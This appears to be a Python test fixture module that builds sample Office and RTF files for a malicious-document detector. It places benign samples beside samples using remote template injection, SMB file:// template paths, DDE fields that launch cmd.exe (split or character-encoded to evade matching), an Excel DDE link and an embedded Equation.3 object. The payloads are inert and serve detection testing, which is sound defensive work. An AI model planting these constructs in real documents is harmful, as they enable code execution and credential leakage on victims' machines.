"""Office documents that fetch, ask by DDE, or carry objects; and honest neighbours."""
from _tricks import trick, zipped

TYPES = (b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
         b'<Default Extension="xml" ContentType="application/xml"/></Types>')
KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def relationships(*rows):
    out = '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    for i, (kind, target) in enumerate(rows):
        out += f'<Relationship Id="rId{i + 1}" Type="{KIND}{kind}" Target="{target}" TargetMode="External"/>'
    return (out + "</Relationships>").encode()


def docx(body="<w:p><w:r><w:t>Hello</w:t></w:r></w:p>", more=()):
    document = f'<?xml version="1.0"?><w:document xmlns:w="urn:w"><w:body>{body}</w:body></w:document>'
    return zipped([("[Content_Types].xml", TYPES), ("word/document.xml", document.encode()), *more])


def field(*runs):
    out = '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    out += "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    return out + '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'


@trick("ooxml-plain", "Letter.docx")
def plain():
    return docx(field(" DATE "), [("word/_rels/document.xml.rels", relationships(("hyperlink", "https://www.example.com/")))])


@trick("ooxml-template", "Job offer.docx", "file.remote")
def template():
    return docx(more=[("word/_rels/settings.xml.rels", relationships(("attachedTemplate", "https://files.example.com/a.jpg")))])


@trick("ooxml-share", "Plan.docx", "file.remote/share")
def share():
    return docx(more=[("word/_rels/settings.xml.rels", relationships(("attachedTemplate", "file://192.0.2.7/share/a.dotm")))])


@trick("ooxml-frame", "Page.docx", "file.remote/frame")
def frame():
    return docx(more=[("word/_rels/webSettings.xml.rels", relationships(("frame", "http://files.example.com/a.html")))])


@trick("ooxml-local", "Old letter.docx")
def local():
    return docx(more=[("word/_rels/settings.xml.rels", relationships(("attachedTemplate", "file:///C:\\Users\\ann\\Normal.dotm")))])


@trick("ooxml-dde", "Prices.docx", "file.dde/command")
def dde():
    return docx(field("DD", 'EAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k', ' echo hello"'))


@trick("ooxml-dde-quoted", "Prices2.docx", "file.dde")
def dde_quoted():
    return docx(field(" QUOTE 68 68 69 65 85 84 79 32 97 32 98"))


@trick("ooxml-dde-sheet", "Prices.xlsx", "file.dde/command")
def dde_sheet():
    link = b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c echo hello"><ddeItems/></ddeLink></externalLink>'
    return zipped([("[Content_Types].xml", TYPES), ("xl/workbook.xml", b"<workbook/>"), ("xl/externalLinks/externalLink1.xml", link)])


@trick("rtf-plain", "Note.rtf")
def rtf_plain():
    return b"{\\rtf1\\ansi{\\*\\generator hello;}{\\fonttbl{\\f0 Arial;}}Hello \\b there\\b0.\\par}"


@trick("rtf-template", "Minutes.rtf", "file.rtf/template")
def rtf_template():
    return b"{\\rtf1\\ansi{\\*\\template http://files.example.com/a.dot}Hello}"


@trick("rtf-equation", "Sums.rtf", "file.rtf/equation")
def rtf_equation():
    data = b"\x01\x05\0\0\x02\0\0\0\x0b\0\0\0eQuAtIoN.3\0\0\0\0\0\0\0\0\0\x04\0\0\0hello".hex()
    return b"{\\rtf1{\\object\\objemb{\\*\\objdata " + b" {\\x}".join([data[:9].encode(), data[9:].encode()]) + b"}}}"
